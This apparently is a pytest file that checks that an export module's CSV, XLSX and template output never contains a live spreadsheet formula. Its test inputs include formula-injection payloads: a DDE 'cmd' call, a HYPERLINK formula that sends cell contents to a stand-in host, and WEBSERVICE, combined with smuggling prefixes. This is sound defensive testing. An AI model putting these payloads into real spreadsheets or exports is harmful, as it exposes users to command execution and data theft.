"""Nothing that somebody typed is a formula in any file that leaves: every kind of table, every hostile cell in
every column, read by whatever parts cells."""

import csv
import io
from itertools import product
from pathlib import Path

import openpyxl
import pytest

from domain.papers.tables import open_table
from domain.papers.templates import write_table
from domain.screen import TableFacts

BEGINS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
CALLS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"y")', "1+1", "SUM(1)*cmd", "WEBSERVICE(A1)")
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "a;", "a\t", 'a";', "a|", "a\n", "a; ", "a,", '",', ';"')
HOSTILE = tuple(before + begin + call for before, begin, call in product(BEFORE, BEGINS, CALLS))
HEAD = ("Folio", "Nombre", "Correo")


def begins_formula(cell: str) -> bool:
    return cell.strip(" \t\r\n\"'\u00a0")[:1] in BEGINS and cell.lstrip(' "\t\u00a0\r\n')[:1] != "'"


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_of_a_csv_begins_a_formula(tmp_path: Path, separator: str) -> None:
    """Whatever the reader takes for the sign between cells, and whether it understands quotes or not."""
    path = tmp_path / "a.csv"
    with open_table("csv", path, "x", HEAD) as table:
        table.rows([row(one, column) for one in HOSTILE for column in range(3)])
    said = path.read_text("utf-8-sig")
    quoted = [cell for line in csv.reader(io.StringIO(said, newline=""), delimiter=separator) for cell in line]
    bare = [cell for line in said.splitlines() for cell in line.split(separator)]
    assert [cell for cell in quoted if begins_formula(cell)] == []
    if separator != ",":
        assert [cell for cell in bare if begins_formula(cell)] == []
    assert len(quoted) > len(HOSTILE)


def row(cell: str, column: int) -> tuple[str, str, str]:
    cells = ["x", "y", "z"]
    cells[column] = cell
    return cells[0], cells[1], cells[2]


def test_no_cell_of_a_spreadsheet_is_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    with open_table("xlsx", path, "=1", ("=1", "+1", "@x")) as table:
        table.rows([row(one, column) for one in HOSTILE for column in range(3)])
    check(path.read_bytes())


def test_no_cell_of_a_template_is_a_formula() -> None:
    rows = tuple(row(one, column) for one in HOSTILE for column in range(3))
    check(write_table(TableFacts("=1", ("=1", "+1", "@x"), rows, ("=1+1",))))


def check(content: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells} <= {"s", "n"}  # words, or empty
    assert not [cell for cell in cells if cell.hyperlink or (cell.data_type == "n" and cell.value is not None)]
    assert len(cells) > 3 * len(HOSTILE)
    book.close()
